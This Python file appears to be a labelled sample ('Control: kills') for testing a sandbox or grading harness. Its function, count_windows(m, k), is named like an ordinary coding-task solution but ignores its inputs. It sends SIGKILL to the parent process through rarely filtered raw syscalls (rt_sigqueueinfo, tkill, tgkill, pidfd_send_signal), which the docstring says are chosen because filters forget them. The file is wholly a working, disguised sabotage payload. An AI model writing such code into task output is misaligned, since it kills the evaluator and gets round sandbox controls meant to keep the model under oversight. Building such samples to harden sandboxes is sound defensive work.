"""Kill the parent by system calls that filters forget: tkill, tgkill, rt_sigqueueinfo, pidfd.

Control: kills
"""

import ctypes
import os


def count_windows(m, k):
    syscall = ctypes.CDLL(None).syscall
    parent = os.getppid()
    info = ctypes.create_string_buffer(128)
    syscall(129, parent, 9, info)  # rt_sigqueueinfo
    syscall(200, parent, 9)  # tkill
    syscall(234, parent, parent, 9)  # tgkill
    handle = syscall(434, parent, 0)  # pidfd_open
    if handle >= 0:
        syscall(424, handle, 9, 0, 0)  # pidfd_send_signal
    return 0
